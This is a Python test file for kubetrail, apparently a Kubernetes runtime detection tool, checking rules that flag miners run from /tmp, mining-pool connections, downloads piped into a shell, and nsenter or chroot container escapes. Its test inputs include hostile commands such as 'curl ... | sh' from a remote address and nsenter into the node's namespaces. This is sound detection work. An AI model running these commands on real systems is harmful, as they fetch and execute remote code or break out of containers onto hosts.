"""kubetrail's own runtime rules (pure)."""

from __future__ import annotations

from typing import Any

from kubetrail.correlate.runtime_rules import judge


def event(kind: str, **kw: Any) -> dict[str, Any]:
    return {"kind": kind, "binary": None, "dst_ip": None, "dst_port": None} | kw


def test_a_program_run_from_a_world_writable_directory_is_high() -> None:
    found = judge(event("process_exec", binary="/tmp/xmrig"))
    assert found is not None and (found.severity, found.techniques) == ("high", ("T1204", "T1059"))
    assert "/tmp" in found.reason


def test_a_connection_to_a_mining_pool_port_is_resource_hijacking() -> None:
    found = judge(event("network_flow", dst_ip="198.51.100.23", dst_port=3333))
    assert found is not None and found.techniques == ("T1496",)
    assert judge(event("network_flow", dst_ip="10.0.0.1", dst_port=443)) is None


def test_a_download_piped_into_a_shell_is_high() -> None:
    for args in ('-c "curl -s http://198.51.100.7/p | sh"', "-c 'wget -qO- http://x/y|/bin/bash'"):
        found = judge(event("process_exec", binary="/bin/sh", args=args))
        assert found is not None and found.techniques == ("T1105", "T1059.004"), args
    # A pipe of local tools, or a download saved to a file, is not this rule's business.
    assert judge(event("process_exec", binary="/bin/sh", args='-c "ps aux | grep nginx"')) is None
    assert judge(event("process_exec", binary="/bin/sh", args='-c "curl -o /srv/a http://x/a"')) is None
    assert judge(event("process_exec", binary="/usr/bin/curl", args="http://x/p | sh")) is None  # not a shell


def test_entering_the_nodes_namespaces_or_root_is_a_container_escape() -> None:
    for binary, args in (("/usr/bin/nsenter", "--target 1 --mount --uts --ipc --net --pid -- bash"),
                         ("/usr/bin/nsenter", "-t 1 -m -u -n -i sh"), ("/usr/sbin/chroot", "/host /bin/bash")):  # fmt: skip
        found = judge(event("process_exec", binary=binary, args=args))
        assert found is not None and (found.severity, found.techniques) == ("high", ("T1611",)), args
    # nsenter into another process's namespaces (a debugging sidecar's habit) is not an escape.
    assert judge(event("process_exec", binary="/usr/bin/nsenter", args="-t 4242 -n ip addr")) is None
    assert judge(event("process_exec", binary="/usr/sbin/chroot", args="/srv/jail /bin/true")) is None


def test_each_finding_says_why_in_a_phrase_that_follows_the_event() -> None:
    whys = [judge(e) for e in (event("network_flow", dst_ip="198.51.100.23", dst_port=3333),
                               event("process_exec", binary="/tmp/xmrig"),
                               event("process_exec", binary="/bin/sh", args='-c "curl -s http://x/p | sh"'),
                               event("process_exec", binary="/usr/bin/nsenter", args="-t 1 -m sh"))]  # fmt: skip
    assert [w.why if w else None for w in whys] == [
        "a mining-pool port", "a program in world-writable /tmp", "a download piped into a shell",
        "a container escape into the node",
    ]  # fmt: skip
